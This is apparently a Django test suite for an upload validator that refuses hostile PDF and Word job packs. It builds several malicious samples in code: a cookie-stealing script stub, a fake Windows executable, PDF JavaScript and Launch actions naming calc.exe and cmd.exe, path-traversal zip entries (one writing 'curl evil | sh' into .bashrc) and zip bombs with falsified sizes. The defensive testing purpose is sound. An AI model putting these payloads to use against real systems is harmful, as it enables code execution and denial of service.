"""A job pack is opened with a parser for its type before it is kept: a PDF must be one PDF
document with pages and no scripts or attached files, a Word .docx a plain Word document with no
programs, macros, unsafe names or zip bombs; and an upload past the size limit is not read to
its end. Every hostile file is made here, as the test runs."""

import io
import struct
import warnings
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from tests.vacancies.factories import VacancyFactory
from tests.vacancies.test_posting import advert_data
from vacancies.models import Vacancy

pytestmark = pytest.mark.django_db

HTML = b"<html><body><script>alert(document.cookie)</script></body></html>\n"
# A Windows program's start: "MZ", the offset of the PE header at 0x3C, and the header there.
PROGRAM = b"MZ" + b"\x90" * 58 + struct.pack("<I", 0x80) + b"\x00" * 64 + b"PE\x00\x00" + bytes(64)


# --- Making documents --------------------------------------------------------------------------


def real_pdf(*, pages: int = 1, change=None) -> bytes:
    """A PDF as pypdf writes it; ``change(writer)`` may add to it first."""
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(595, 842)
    if change:
        change(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def hand_made_pdf(
    *, after_header: bytes = b"", catalog: bytes = b"", page: bytes = b"", more=()
) -> bytes:
    """A one-page PDF written byte by byte, with a correct cross-reference table: whatever is
    put after the header or in ``more`` objects (numbered from 4) is where the table says."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b">>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] " + page + b">>",
        *more,
    ]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + after_header)
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def stream(data: bytes) -> bytes:
    return b"<< /Length %d >>\nstream\n%s\nendstream" % (len(data), data)


WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def content_types(main: str = WORD_MAIN) -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="{main}"/>'
        "</Types>"
    )


def word_docx(*, main: str = WORD_MAIN, extra=(), compression=zipfile.ZIP_DEFLATED) -> bytes:
    """A minimal Word document, as Word lays it out, with ``extra`` (name, bytes) parts."""
    buffer = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns of a duplicate name; some tests want one
        with zipfile.ZipFile(buffer, "w", compression) as archive:
            archive.writestr("[Content_Types].xml", content_types(main))
            archive.writestr(
                "_rels/.rels",
                '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
                'officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'
                "</Relationships>",
            )
            archive.writestr(
                "word/document.xml",
                '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/'
                'main"><w:body><w:p><w:r><w:t>Independent Scrutineer</w:t></w:r></w:p>'
                "</w:body></w:document>",
            )
            for name, data in extra:
                archive.writestr(name, data)
    return buffer.getvalue()


def declare_size(data: bytes, name: str, size: int) -> bytes:
    """The zip with ``name``'s uncompressed size rewritten as ``size``, in its local header and
    in the central directory, as a hand-edited zip bomb would say."""
    data = bytearray(data)
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        local = archive.getinfo(name).header_offset
    struct.pack_into("<I", data, local + 22, size)
    central = data.index(b"PK\x01\x02")  # the directory's entries: 46 bytes, then the name
    while data[central + 46 : central + 46 + len(name)] != name.encode():
        central = data.index(b"PK\x01\x02", central + 1)
    struct.pack_into("<I", data, central + 24, size)
    return bytes(data)


def post_pack(client, name: str, content: bytes):
    data = advert_data(job_pack=SimpleUploadedFile(name, content, "application/octet-stream"))
    return client.post(reverse("vacancies:post"), data)


def pack_errors(response) -> list[str]:
    assert response.status_code in (200, 413), f"not refused: answered {response.status_code}"
    return response.context["form"].errors.get("job_pack", [])


# --- Accepted ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("pack.pdf", real_pdf(pages=3)),
        ("pack.pdf", hand_made_pdf()),
        # Only an owner's password (printing or copying restricted) opens without one.
        ("pack.pdf", real_pdf(change=lambda writer: writer.encrypt("", "owner-secret"))),
        ("pack.docx", word_docx(extra=[("word/media/image1.png", b"\x89PNG\r\n\x1a\n" * 100)])),
        ("pack.docx", word_docx(compression=zipfile.ZIP_STORED)),
    ],
    ids=["pypdf's", "hand made", "owner password", "word with a picture", "word stored"],
)
def test_a_plain_pdf_or_word_document_is_kept(client, member, media_root, name, content):
    client.force_login(member)

    response = post_pack(client, name, content)

    assert response.status_code == 302, pack_errors(response)
    assert (media_root / Vacancy.objects.get().job_pack.name).read_bytes() == content


# --- PDF -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "content",
    [
        b"%PDF-1.7\n" + HTML + PROGRAM,
        real_pdf() + HTML + PROGRAM,
        hand_made_pdf(after_header=HTML + PROGRAM),
        # The same, put in by hand after the PDF was made, so its table points the wrong way.
        real_pdf().replace(b"\n", b"\n" + HTML + PROGRAM + b"\n", 1),
        # A zip (found from a file's end) in the last object: a web page to a zip reader.
        hand_made_pdf(more=[stream(word_docx(extra=[("index.html", HTML)]))]),
    ],
    ids=[
        "header then a page and a program",
        "page and program appended",
        "page and program after the header",
        "page and program slipped in",
        "zip inside",
    ],
)
def test_a_pdf_that_is_also_a_web_page_program_or_zip_is_refused(client, member, content):
    client.force_login(member)

    response = post_pack(client, "pack.pdf", content)

    assert "other data hidden before, inside or after the document" in pack_errors(response)[0]
    assert not Vacancy.objects.exists()


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"%PDF-1.7\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n", "This PDF could not be read"),
        (b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\n%%EOF\n", "could not be read"),
        (real_pdf(pages=0), "This PDF has no pages"),
        (
            real_pdf(change=lambda writer: writer.encrypt("open-sesame", "owner-secret")),
            "protected by a password",
        ),
    ],
    ids=["no document", "no cross-reference table", "no pages", "password"],
)
def test_a_pdf_that_cannot_be_read_or_has_no_pages_is_refused(client, member, content, message):
    client.force_login(member)

    response = post_pack(client, "pack.pdf", content)

    assert message in pack_errors(response)[0]
    assert not Vacancy.objects.exists()


def open_action(kind: str, extra: str):
    def change(writer):
        writer.root_object[NameObject("/OpenAction")] = DictionaryObject(
            {NameObject("/S"): NameObject(kind), NameObject(extra): TextStringObject("calc.exe")}
        )

    return change


SCRIPTED = {
    "document javascript": real_pdf(change=lambda w: w.add_open_action(JavaScript("app.alert(1)"))),
    "launch on open": real_pdf(change=open_action("/Launch", "/F")),
    # The action at the end of a reference, its type spelt with a #xx escape.
    "escaped and indirect": hand_made_pdf(
        catalog=b"/OpenAction 4 0 R", more=[b"<< /S /L#61unch /F (cmd.exe) >>"]
    ),
    "a link's javascript": hand_made_pdf(
        page=b"/Annots [4 0 R]",
        more=[b"<< /Subtype /Link /Rect [0 0 9 9] /A << /S /JavaScript /JS (app.alert(1)) >> >>"],
    ),
}


@pytest.mark.parametrize("content", SCRIPTED.values(), ids=SCRIPTED.keys())
def test_a_pdf_with_javascript_or_a_launch_action_is_refused(client, member, content):
    client.force_login(member)

    response = post_pack(client, "pack.pdf", content)

    assert "contains JavaScript or an action that starts a program" in pack_errors(response)[0]
    assert not Vacancy.objects.exists()


def test_a_pdf_with_too_many_objects_to_check_is_refused(client, member, monkeypatch):
    monkeypatch.setattr("vacancies.validators.PDF_MAX_OBJECTS", 20)
    client.force_login(member)
    content = hand_made_pdf(
        catalog=b"/Extra [%s]" % b" ".join(b"%d 0 R" % n for n in range(4, 30)),
        more=[b"<< >>"] * 26,
    )

    response = post_pack(client, "pack.pdf", content)

    assert "This PDF has more than 20 parts, too many to check." in pack_errors(response)[0]
    assert not Vacancy.objects.exists()


def test_a_pdf_with_an_attached_file_is_refused(client, member):
    client.force_login(member)
    content = real_pdf(change=lambda writer: writer.add_attachment("setup.exe", PROGRAM))

    response = post_pack(client, "pack.pdf", content)

    assert "has files attached inside it" in pack_errors(response)[0]
    assert not Vacancy.objects.exists()


# --- Word .docx ------------------------------------------------------------------------------

HOSTILE_WORD = {
    "a program": (word_docx(extra=[("word/media/setup.exe", PROGRAM)]), "a program file"),
    "a script": (word_docx(extra=[("customXml/run.vbs", b"MsgBox 1")]), "a program file"),
    "a program named as a picture": (
        word_docx(extra=[("word/media/image1.png", PROGRAM)]),
        "a program file (word/media/image1.png)",
    ),
    "a path out of the folder": (
        word_docx(extra=[("../../home/user/.bashrc", b"curl evil | sh")]),
        "a file with an unsafe name (../../home/user/.bashrc)",
    ),
    "an absolute path": (word_docx(extra=[("/etc/cron.d/x", b"")]), "unsafe name"),
    "a backslash": (word_docx(extra=[("word\\..\\..\\x.txt", b"")]), "unsafe name"),
    "a macro project": (word_docx(extra=[("word/vbaProject.bin", b"\xd0\xcf")]), "macros"),
    "macro-enabled": (
        word_docx(main="application/vnd.ms-word.document.macroEnabled.main+xml"),
        "contains macros",
    ),
    "an embedded object": (
        word_docx(extra=[("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0")]),
        "an embedded object or control",
    ),
    "a template": (
        word_docx(
            main="application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"
        ),
        "This is not a Word document (.docx)",
    ),
    "no content type": (word_docx(main="application/xml"), "not a Word document"),
    "two documents": (
        word_docx(extra=[("word/document.xml", b"<w:document/>")]),
        "two parts named word/document.xml",
    ),
    "data after the end": (word_docx() + HTML, "other data added after its end"),
    "a damaged part": (
        word_docx(compression=zipfile.ZIP_STORED).replace(b"Independent", b"Indopendent"),
        "This Word document could not be read",
    ),
}


@pytest.mark.parametrize(("content", "message"), HOSTILE_WORD.values(), ids=HOSTILE_WORD.keys())
def test_a_word_document_with_programs_macros_or_unsafe_names_is_refused(
    client, member, content, message
):
    client.force_login(member)

    response = post_pack(client, "pack.docx", content)

    assert message in pack_errors(response)[0]
    assert not Vacancy.objects.exists()


def test_a_word_document_declaring_a_gigabyte_inside_is_refused(client, member):
    client.force_login(member)
    content = declare_size(
        word_docx(extra=[("word/media/image1.png", bytes(1000))]), "word/media/image1.png", 2**30
    )

    response = post_pack(client, "pack.docx", content)

    assert "unpacks to more than" in pack_errors(response)[0]
    assert not Vacancy.objects.exists()


def test_a_zip_bomb_of_real_zeros_is_refused(client, member, settings):
    settings.VACANCY_JOB_PACK_MAX_EXPANDED_BYTES = 2 * 1024 * 1024
    client.force_login(member)
    content = word_docx(extra=[("word/media/image1.png", bytes(4 * 1024 * 1024))])
    assert len(content) < 10_000  # 4 MB of zeros pack to a few KB

    response = post_pack(client, "pack.docx", content)

    assert "unpacks to more than 100 times its packed size" in pack_errors(response)[0]
    assert not Vacancy.objects.exists()


def test_a_word_document_unpacking_past_the_limit_is_refused(client, member, settings):
    settings.VACANCY_JOB_PACK_MAX_EXPANDED_BYTES = 1024 * 1024
    client.force_login(member)
    pictures = [(f"word/media/image{n}.png", bytes(range(256)) * 2400) for n in range(3)]
    content = word_docx(extra=pictures, compression=zipfile.ZIP_STORED)

    response = post_pack(client, "pack.docx", content)

    assert "unpacks to more than 1.0\xa0MB, the limit" in pack_errors(response)[0]
    assert not Vacancy.objects.exists()


def test_a_word_document_whose_declared_sizes_lie_is_refused(client, member, settings):
    """It says 100 KB and holds 8 MB: unpacking stops at what it declared, and the part is
    refused there, not unpacked to its end."""
    settings.VACANCY_JOB_PACK_MAX_EXPANDED_BYTES = 1024 * 1024
    client.force_login(member)
    content = declare_size(
        word_docx(extra=[("word/media/image1.png", bytes(8 * 1024 * 1024))]),
        "word/media/image1.png",
        100_000,
    )

    response = post_pack(client, "pack.docx", content)

    assert "This Word document could not be read" in pack_errors(response)[0]
    assert not Vacancy.objects.exists()


# --- Size: the upload is not read past the limit -----------------------------------------------


class TrickleBody:
    """A request body made as it is read (wsgi.input), which counts the bytes read from it."""

    def __init__(self, parts):
        self.parts = iter(parts)
        self.buffer = b""
        self.read_bytes = 0

    def read(self, size=-1):
        while size < 0 or len(self.buffer) < size:
            part = next(self.parts, None)
            if part is None:
                break
            self.buffer += part
        size = len(self.buffer) if size < 0 else size
        data, self.buffer = self.buffer[:size], self.buffer[size:]
        self.read_bytes += len(data)
        return data

    def readline(self, size=-1):
        return self.read(size)  # the multipart parser reads in chunks, never by line


def multipart_with_a_big_pack(fields: dict, pack_size: int) -> tuple[TrickleBody, int, str]:
    boundary = "tasp-test-boundary"
    head = b"".join(
        f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'.encode()
        for name, value in fields.items()
    )
    head += (
        f'--{boundary}\r\nContent-Disposition: form-data; name="job_pack"; '
        f'filename="pack.pdf"\r\nContent-Type: application/pdf\r\n\r\n'
    ).encode()
    tail = f"\r\n--{boundary}--\r\n".encode()
    chunk = 64 * 1024

    def parts():
        yield head
        yield b"%PDF-1.7\n"
        sent = len(b"%PDF-1.7\n")
        while sent < pack_size:
            piece = min(chunk, pack_size - sent)
            yield b"0" * piece
            sent += piece
        yield tail

    length = len(head) + pack_size + len(tail)
    return TrickleBody(parts()), length, f"multipart/form-data; boundary={boundary}"


@pytest.mark.parametrize("view", ["post", "edit"])
def test_a_job_pack_past_the_limit_is_not_read_to_its_end(client, member, settings, view):
    limit = settings.VACANCY_JOB_PACK_MAX_BYTES
    assert limit == 5 * 1024 * 1024
    client.force_login(member)
    draft = VacancyFactory(posted_by=member, title="Unchanged")
    url = {"post": reverse("vacancies:post"), "edit": reverse("vacancies:edit", args=[draft.slug])}
    body, length, content_type = multipart_with_a_big_pack(advert_data(), 60 * 1024 * 1024)

    response = client.generic(
        "POST",
        url[view],
        **{"wsgi.input": body, "CONTENT_LENGTH": str(length), "CONTENT_TYPE": content_type},
    )

    assert body.read_bytes < limit + 1024 * 1024  # of a 60 MB body
    assert response.status_code == 413
    [error] = pack_errors(response)
    assert error.startswith("The job pack is too big: the limit is 5.0\xa0MB. Nothing was saved;")
    assert list(Vacancy.objects.values_list("title", "job_pack")) == [("Unchanged", "")]


def test_a_job_pack_under_the_limit_is_read_as_before(client, member, media_root, settings):
    settings.VACANCY_JOB_PACK_MAX_BYTES = 256 * 1024
    client.force_login(member)
    content = hand_made_pdf(page=b"/Contents 4 0 R", more=[stream(b"0 0 m 9 9 l S\n" * 15_000)])
    assert 3 * 64 * 1024 < len(content) < 256 * 1024  # several of the upload's chunks

    assert post_pack(client, "pack.pdf", content).status_code == 302
    assert (media_root / Vacancy.objects.get().job_pack.name).read_bytes() == content


def test_the_posting_forms_still_check_the_csrf_token(member):
    from django.test import Client

    client = Client(enforce_csrf_checks=True)
    client.force_login(member)
    draft = VacancyFactory(posted_by=member)

    for url in (reverse("vacancies:post"), reverse("vacancies:edit", args=[draft.slug])):
        assert client.post(url, advert_data()).status_code == 403
        token = client.get(url).context["csrf_token"]
        answer = client.post(url, {**advert_data(), "csrfmiddlewaretoken": str(token)})
        assert answer.status_code == 302
